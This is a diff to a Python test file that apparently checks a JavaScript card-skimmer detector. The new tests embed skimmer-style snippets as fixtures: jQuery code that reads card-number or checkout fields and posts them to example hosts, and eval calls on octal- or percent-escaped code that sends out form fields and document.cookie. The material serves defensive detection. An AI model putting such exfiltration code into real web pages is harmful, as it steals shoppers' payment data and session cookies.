@@ -100,6 +100,20 @@ def test_document_wide_listeners_read_every_field() -> None:
     assert send.carries_form and ALL_FIELDS not in send.carries
 
 
+def test_card_data_copied_into_a_form_of_its_own_travels_with_it() -> None:
+    code = ("var n = jQuery('[name*=cc_num]').val();\n"
+            "jQuery('.grab input[name=a]').val(n);\n"
+            "jQuery.post('https://copy.example.net/s', jQuery('.grab').serialize());")
+    (send,) = sends(code)
+    assert CARD in send.carries and send.host == "copy.example.net"
+
+
+def test_a_checkout_form_read_whole_is_card_data() -> None:
+    code = "jQuery.ajax({url: 'https://stats.example.net/g', data: JSON.stringify(jQuery('#checkout').serializeArray())});"
+    (send,) = sends(code)
+    assert CARD in send.carries
+
+
 def test_an_unrelated_value_property_is_not_a_form_read() -> None:
     assert not facts("var it = iterator.next(); var v = it.value; send(v);", B.FIELD_READ)
 
@@ -492,6 +506,20 @@ def test_parse_plan_skips_plain_code_and_keeps_skimmer_shapes() -> None:
     assert B.parse_plan(extract_js_features(plain), plain) is None
     for code in (COLLECTOR, SENDER, SOURCE + "new Image().src = 'https://a.example.net/?' + d;"):
         assert B.parse_plan(extract_js_features(code), code) == ((0, len(code)),)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "var h = 'https://'; b.ajax({url: h + 'host-only.example.net/g.php', data: q, type: 'POST'});"
+        " var q = document.querySelector('#cc_number').value;",
+        "this['eval']('" + "".join(f"\\{ord(c):o}" for c in "var a = document.forms[0].elements; send(a);" * 3) + "');",
+        "this['eval'](this['unescape']('" + "".join(f"%{ord(c):02x}" for c in "var a = document.cookie; go(a);" * 5) + "'));",
+    ],
+    ids=["host_without_scheme", "octal_escaped_code", "percent_escaped_code"],
+)
+def test_parse_plan_sees_hidden_destinations_and_escaped_code(code: str) -> None:
+    assert B.parse_plan(extract_js_features(code), code) is not None
 
 
 def test_parse_plan_parses_windows_of_a_large_script() -> None:
